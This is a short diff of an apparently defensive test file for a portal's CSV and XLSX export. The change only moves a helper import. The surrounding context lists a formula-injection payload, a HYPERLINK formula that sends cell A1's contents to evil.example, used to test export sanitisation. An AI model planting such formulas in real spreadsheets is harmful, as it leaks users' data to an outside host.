@@ -14,7 +14,7 @@ from sqlalchemy import select
 
 from portal.core.tabular import csv_bytes, csv_stream, xlsx_bytes
 from portal.models import ImportBatch
-from tests.test_registry_import import HEADER, csv_of, people
+from tests.support.imports import HEADER, csv_of, people
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
